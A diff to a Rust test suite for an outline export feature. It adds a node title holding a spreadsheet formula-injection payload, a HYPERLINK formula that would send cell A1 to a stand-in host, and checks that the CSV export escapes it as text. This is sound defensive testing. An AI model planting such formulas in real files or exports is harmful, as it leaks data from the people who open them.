@@ -726,7 +726,11 @@ on_both_backends! {
         admin.followed(response).await;
         let response = admin.add_node(&[("number", "5.10"), ("title", "Smart Cities")]).await;
         admin.followed(response).await;
+        // A title a spreadsheet would run as a formula is written as text.
+        let response = admin.save_node(node(&app, "5.1").id, &[("title", "=HYPERLINK(\"http://example.com/\"&A1)")]).await;
+        admin.followed(response).await;
         let csv = editor.get(&format!("{OUTLINE}.csv")).await.text().await.unwrap();
+        assert!(csv.contains("\n5.1,\"'=HYPERLINK(\"\"http://example.com/\"\"&A1)\",section,"), "{csv}");
         let toml = editor.get(&format!("{OUTLINE}.toml")).await.text().await.unwrap();
         let expected = docket::outline::build(docket::outline::entries_of(&stored(&app))).unwrap();
         assert_eq!(parse(&csv, OutlineFormat::Csv).unwrap(), expected);
